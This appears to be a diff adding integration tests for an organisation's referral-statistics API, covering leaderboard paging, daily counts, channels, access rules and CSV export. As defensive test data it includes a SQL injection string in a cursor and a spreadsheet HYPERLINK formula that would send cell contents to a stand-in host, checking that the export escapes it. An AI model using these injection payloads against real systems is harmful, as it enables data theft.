@@ -1,0 +1,306 @@
+"""The counts API of an organisation on a real server and Postgres: sums, order, days, channels, activity, export."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from collections.abc import AsyncIterator
+from datetime import UTC, date, datetime, timedelta
+from typing import Any
+
+import pytest
+import pytest_asyncio
+
+from models.badges import SEEDED_DEFINITIONS
+from settings import Settings
+from tests.mentor_rows import COUNTED_AT, execute, put_award, put_counts, put_mentor, put_milestone
+from tests.milestones import MENTOR, ORG, OTHER_ORG, new_id
+from tests.web import Web, bearer, running_web
+from web import export
+from web.organisation import CHANNELS_MAX, Place, write_cursor
+
+pytestmark = pytest.mark.integration
+
+HOUR = timedelta(hours=1)
+
+
+@pytest_asyncio.fixture
+async def web(settings: Settings) -> AsyncIterator[Web]:
+    """Give a client of a server, whose requests are a coordinator's unless they say otherwise."""
+    async with running_web(settings) as web:
+        web.headers.update(bearer(org_id=ORG))
+        yield web
+
+
+async def ask(web: Web, path: str, **parameters: object) -> dict[str, Any]:
+    """Return the organisation's answer to a path."""
+    answer = await web.get(f"/v1/orgs/{ORG}/{path}", params={name: str(given) for name, given in parameters.items()})
+    assert answer.status_code == 200, answer.text
+    found: dict[str, Any] = answer.json()
+    return found
+
+
+def ids(number: int) -> list[str]:
+    """Return mentors' ids in their order."""
+    return [f"0b000000-0000-4000-8000-{n:012}" for n in range(number)]
+
+
+async def test_summary(web: Web, settings: Settings) -> None:
+    """Sums over its own mentors, with or without activity; clicks of robots apart."""
+    nothing = await ask(web, "summary")
+    assert (nothing["name"], nothing["updatedAt"], nothing["conversionRate"]) == (None, None, 0.0)
+    assert {value for value in nothing.values() if isinstance(value, int)} == {0}
+    for number, mentor_id in enumerate(ids(4)):
+        put_mentor(settings, mentor_id=mentor_id, code=f"ABCDEFGH{number}0")
+        put_milestone(settings, 1, mentor_id=mentor_id, state="decided" if number else "awaiting_mentor")
+    put_mentor(settings, org_id=OTHER_ORG)
+    execute(settings, "UPDATE organisations SET name = 'Vi hjelper' WHERE org_id = %s", [ORG])
+    put_counts(settings, 10, 3, 2, mentor_id=ids(2)[0])
+    put_counts(settings, 0, 1, 1, mentor_id=ids(2)[1], counted_at=COUNTED_AT + HOUR)
+    put_counts(settings, 0, 0, 0, mentor_id=ids(3)[2])
+    put_counts(settings, 7, 7, 7, org_id=OTHER_ORG)
+    put_award(settings, 1, mentor_id=ids(1)[0])
+    for day in (0, 1):
+        execute(
+            settings,
+            "INSERT INTO filtered_clicks VALUES (%s, %s, 'preview', 4)",
+            [ORG, COUNTED_AT.date() + timedelta(days=day)],
+        )
+    assert await ask(web, "summary") == {
+        "orgId": ORG,
+        "name": "Vi hjelper",
+        "mentors": 4,
+        "activeMentors": 2,
+        "totalClicks": 10,
+        "pendingAttributions": 4,
+        "confirmedAttributions": 3,
+        "conversionRate": 0.3,
+        "milestones": 3,
+        "awards": 1,
+        "filteredClicks": 8,
+        "updatedAt": "2026-11-20T13:30:00Z",
+    }
+
+
+async def test_leaderboard_page_by_page(web: Web, settings: Settings) -> None:
+    """Most confirmed first, then by id; every mentor once, ranks without a gap, whatever the pages' size."""
+    confirmed = [0, 5, 2, 5, 0, 0, 2, 9, 0, 5]
+    for mentor_id, count in zip(ids(10), confirmed, strict=True):
+        put_counts(settings, 10, 0, count, mentor_id=mentor_id)
+    put_counts(settings, 10, 0, 7, org_id=OTHER_ORG)
+    right = [ids(10)[number] for number in (7, 1, 3, 9, 2, 6, 0, 4, 5, 8)]
+    for limit in (1, 3, 4, 9, 10, 100):
+        entries: list[dict[str, Any]] = []
+        page = await ask(web, "leaderboard", limit=limit)
+        entries += page["entries"]
+        while page["next"] is not None:
+            assert len(page["entries"]) == limit
+            page = await ask(web, "leaderboard", limit=limit, after=page["next"])
+            entries += page["entries"]
+        assert [entry["mentorId"] for entry in entries] == right, limit
+        assert [entry["rank"] for entry in entries] == list(range(1, 11)), limit
+    assert entries[0] == {
+        "rank": 1,
+        "mentorId": ids(8)[7],
+        "referralCode": "ABCDEFGH12",
+        "totalClicks": 10,
+        "pendingAttributions": 0,
+        "confirmedAttributions": 9,
+        "conversionRate": 0.9,
+    }
+    assert (await ask(web, "leaderboard"))["next"] is None
+
+
+async def test_leaderboard_goes_on_where_it_was(web: Web, settings: Settings) -> None:
+    """Who was on the page before may have gone or overtaken others: the next page begins after where he was."""
+    for mentor_id, count in zip(ids(4), (4, 3, 2, 1), strict=True):
+        put_counts(settings, 10, 0, count, mentor_id=mentor_id)
+    page = await ask(web, "leaderboard", limit=2)
+    execute(settings, "DELETE FROM mentor_counts WHERE confirmed_attributions = 3")
+    put_counts(settings, 10, 0, 9, mentor_id=ids(3)[2])
+    rest = await ask(web, "leaderboard", limit=2, after=page["next"])
+    assert [(entry["rank"], entry["mentorId"]) for entry in rest["entries"]] == [(3, ids(4)[3])]
+
+
+async def test_parameters_that_cannot_be_used(web: Web) -> None:
+    """422 that names the parameter; a cursor may be any text and is no way in."""
+    good = write_cursor(Place(1, 1, MENTOR))
+    cursors = [
+        "", "x", "AAAA", good[:-2], f"!{good}", "[" * 200, "a" * 201,
+        write_cursor(Place(0, 1, MENTOR)), write_cursor(Place(1, 2**63, MENTOR)), write_cursor(Place(1, 1, "' OR 1=1")),
+    ]  # fmt: skip
+    faults: list[tuple[str, str, object]] = [
+        *(("leaderboard", "limit", value) for value in (0, 101, -1, "many", "", 1.5)),
+        *(("leaderboard", "after", value) for value in cursors),
+        *(("daily", "days", value) for value in (0, 367, "all")),
+        *(("activity", "limit", value) for value in (0, 101)),
+    ]
+    for path, name, value in faults:
+        answer = await web.get(f"/v1/orgs/{ORG}/{path}", params={name: str(value)})
+        assert (answer.status_code, answer.headers["content-type"]) == (422, "application/problem+json"), (name, value)
+        assert [error["field"] for error in answer.json()["errors"]] == [name], (name, value)
+    assert (await ask(web, "leaderboard", after=good))["entries"] == []
+
+
+async def test_days_without_anything_are_there(web: Web, settings: Settings) -> None:
+    """Every day to today in UTC, with net changes; less than nothing pending where more were confirmed than came."""
+    today = datetime.now(UTC).replace(hour=0, minute=0, second=0, microsecond=0)
+    put_counts(settings, 1, 1, 1, mentor_id=new_id(), counted_at=today - timedelta(days=400))
+    put_counts(settings, 10, 3, 0, counted_at=today - timedelta(microseconds=1))
+    put_counts(settings, 12, 1, 2, counted_at=today)
+    put_counts(settings, 5, 5, 5, org_id=OTHER_ORG, counted_at=today)
+    answer = await ask(web, "daily", days=4)
+    last = date.fromisoformat(answer["to"])
+    assert last - today.date() in (timedelta(0), timedelta(days=1))  # a midnight may pass meanwhile
+    assert answer["from"] == (last - timedelta(days=3)).isoformat()
+    assert [day["day"] for day in answer["days"]] == [(last - timedelta(days=n)).isoformat() for n in (3, 2, 1, 0)]
+    found = {date.fromisoformat(day): numbers for day, *numbers in (each.values() for each in answer["days"])}
+    expected = {today.date() - timedelta(days=1): [10, 3, 0], today.date(): [2, -2, 2]}
+    assert found == {day: [0, 0, 0] for day in found} | expected
+    assert len((await ask(web, "daily"))["days"]) == 30
+    year = (await ask(web, "daily", days=366))["days"]
+    assert (len(year), sum(day["clicks"] for day in year)) == (366, 12)
+    assert len((await ask(web, "daily", days=1))["days"]) == 1
+
+
+async def test_channels(web: Web, settings: Settings) -> None:
+    """The busiest first; channels that nothing came by are left out."""
+    assert await ask(web, "channels") == {"channels": []}
+    put_counts(settings, 10, 3, 2, {"sms": (2, 3, 0), "email": (8, 0, 2), "fax": (0, 0, 0)})
+    put_counts(settings, 1, 0, 1, {"sms": (1, 0, 0), "letter": (0, 0, 1)}, mentor_id=new_id())
+    put_counts(settings, 5, 5, 5, org_id=OTHER_ORG)
+    assert [tuple(channel.values()) for channel in (await ask(web, "channels"))["channels"]] == [
+        ("email", 8, 0, 2),
+        ("sms", 3, 3, 0),
+        ("letter", 0, 0, 1),
+    ]
+    assert (await ask(web, "channels"))["channels"][0].keys() == {"channel", "clicks", "pending", "confirmed"}
+
+
+@pytest.mark.parametrize("other", [0, 1, 1_000])
+async def test_channels_without_end(web: Web, settings: Settings, other: int) -> None:
+    """Links name channels, so there may be any number: past a hundred the rest is `other`, and nothing is lost."""
+    named = {f"c{number:04}": (500 - number, 1, number % 2) for number in range(3 * CHANNELS_MAX)}
+    if other:
+        named["other"] = (other, 1, 0)
+    clicks, pending, confirmed = (sum(each) for each in zip(*named.values(), strict=True))
+    put_counts(settings, clicks, pending, confirmed, named)
+    channels = (await ask(web, "channels"))["channels"]
+    assert len(channels) in (CHANNELS_MAX, CHANNELS_MAX + 1)
+    assert [sum(channel[name] for channel in channels) for name in ("clicks", "pending", "confirmed")] == [
+        clicks,
+        pending,
+        confirmed,
+    ]
+    assert [channel["channel"] for channel in channels[:2]] == ["c0000", "c0001"]
+    assert [channel["channel"] for channel in channels].count("other") == 1
+
+
+async def test_activity(web: Web, settings: Settings) -> None:
+    """The latest of both, the latest first; milestones of mentors whom nobody knows are not told."""
+    put_mentor(settings)
+    for number, threshold in enumerate((1, 5, 10)):
+        put_milestone(settings, threshold, at=COUNTED_AT + number * HOUR)
+        put_award(settings, threshold, at=COUNTED_AT + number * HOUR)
+    put_milestone(settings, 25, mentor_id=new_id(), state="awaiting_mentor")
+    put_milestone(settings, 1, org_id=OTHER_ORG, at=COUNTED_AT + 9 * HOUR)
+    answer = await ask(web, "activity")
+    assert [milestone["threshold"] for milestone in answer["milestones"]] == [10, 5, 1]
+    assert answer["milestones"][0] == {
+        "mentorId": MENTOR,
+        "threshold": 10,
+        "confirmedCount": 11,
+        "reachedAt": "2026-11-20T12:30:00Z",
+        "recordedAt": "2026-11-20T14:30:00Z",
+    }
+    assert [award["badgeName"] for award in answer["awards"]] == [each.name for each in SEEDED_DEFINITIONS[2::-1]]
+    assert answer["awards"][0] == {
+        "mentorId": MENTOR,
+        "badgeId": SEEDED_DEFINITIONS[2].badge_id,
+        "badgeName": SEEDED_DEFINITIONS[2].name,
+        "confirmedCount": 10,
+        "awardedAt": "2026-11-20T14:30:00Z",
+    }
+    latest = await ask(web, "activity", limit=1)
+    assert [len(latest["milestones"]), len(latest["awards"])] == [1, 1]
+    assert latest["awards"] == answer["awards"][:1]
+
+
+async def test_answers_are_asked_for_again_by_their_etag(web: Web, settings: Settings) -> None:
+    """What has not changed is 304; what may be kept is never shown without asking."""
+    for path in ("summary", "leaderboard", "daily", "channels", "activity"):
+        first = await web.get(f"/v1/orgs/{ORG}/{path}")
+        assert first.headers["cache-control"] == "private, no-cache"
+        same = await web.get(f"/v1/orgs/{ORG}/{path}", headers={"If-None-Match": first.headers["etag"]})
+        assert (same.status_code, same.content) == (304, b"")
+    put_counts(settings, 10, 3, 2)
+    changed = await web.get(f"/v1/orgs/{ORG}/leaderboard", headers={"If-None-Match": first.headers["etag"]})
+    assert changed.status_code == 200
+
+
+async def test_mentors_may_not_see_the_organisation(web: Web) -> None:
+    """403 for a mentor, 404 for another organisation, 401 for nobody."""
+    for path in ("summary", "leaderboard", "daily", "channels", "activity", "export.csv"):
+        address = f"/v1/orgs/{ORG}/{path}"
+        assert (await web.get(address, headers=bearer("mentor", org_id=ORG))).status_code == 403
+        assert (await web.get(address, headers=bearer(org_id=OTHER_ORG))).status_code == 404
+        assert (await web.get(address, headers={"Authorization": ""})).status_code == 401
+
+
+async def test_export(web: Web, settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A row for each mentor by id, over any number of pages; nothing that a spreadsheet would run."""
+    mentors = ids(7)
+    for number, mentor_id in enumerate(mentors):
+        put_mentor(settings, mentor_id=mentor_id, code=f"ABCDEFGH{number}0")
+    put_mentor(settings, org_id=OTHER_ORG)
+    put_counts(settings, 10, 3, 2, mentor_id=mentors[3])
+    execute(settings, "UPDATE mentor_counts SET milestones = '{1,5}'")
+    execute(
+        settings,
+        "INSERT INTO badge_definitions (badge_id, org_id, type, threshold, name) VALUES (%s, %s, 'recruitment', 2, %s)",
+        [new_id(), ORG, '=HYPERLINK("http://x/?"&A1,"look")'],
+    )
+    put_award(settings, 1, mentor_id=mentors[3])
+    execute(
+        settings,
+        "INSERT INTO badge_awards SELECT org_id, %s, badge_id, badge_id, 2 FROM badge_definitions WHERE threshold = 2",
+        [mentors[3]],
+    )
+    for size in (1, 2, 3, 7, 100):
+        monkeypatch.setattr(export, "PAGE", size)
+        answer = await web.get(f"/v1/orgs/{ORG}/export.csv")
+        assert answer.headers["content-type"] == "text/csv; charset=utf-8"
+        header, *rows = csv.reader(io.StringIO(answer.text))
+        assert [row[0] for row in rows] == mentors, size
+    assert re.fullmatch(r'attachment; filename="referrals-\d{4}-\d\d-\d\d\.csv"', answer.headers["content-disposition"])
+    assert answer.headers["cache-control"] == "no-store"
+    assert answer.text.count("\r\n") == 8
+    assert rows[0] == [mentors[0], "ABCDEFGH00", "0", "0", "0", "0.0", "", "", ""]
+    assert dict(zip(header, rows[3], strict=True)) == {
+        "mentor_id": mentors[3],
+        "referral_code": "ABCDEFGH30",
+        "total_clicks": "10",
+        "pending_attributions": "3",
+        "confirmed_attributions": "2",
+        "conversion_rate": "0.2",
+        "milestones": "1 5",
+        "badges": f'{SEEDED_DEFINITIONS[0].name} | \'=HYPERLINK("http://x/?"&A1,"look")',
+        "last_event_at": "2026-11-20T12:30:00Z",
+    }
+    execute(settings, "DELETE FROM badge_awards WHERE confirmed_count = 1")
+    header, *rows = csv.reader(io.StringIO((await web.get(f"/v1/orgs/{ORG}/export.csv")).text))
+    assert rows[3][7].startswith("'=HYPERLINK")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])  # noqa: RUF001  the wide ones too
+def test_no_cell_begins_like_a_formula(start: str) -> None:
+    """Whatever a spreadsheet takes for a formula begins with an apostrophe; other text is left alone."""
+    assert export.as_text(f"{start}1") == f"'{start}1"
+    assert export.as_text(f"1{start}") == f"1{start}"
+    assert export.as_text("") == ""
+
+
+async def test_an_export_of_nobody(web: Web) -> None:
+    """Is the header."""
+    assert (await web.get(f"/v1/orgs/{ORG}/export.csv")).text.splitlines() == [",".join(export.HEADER)]
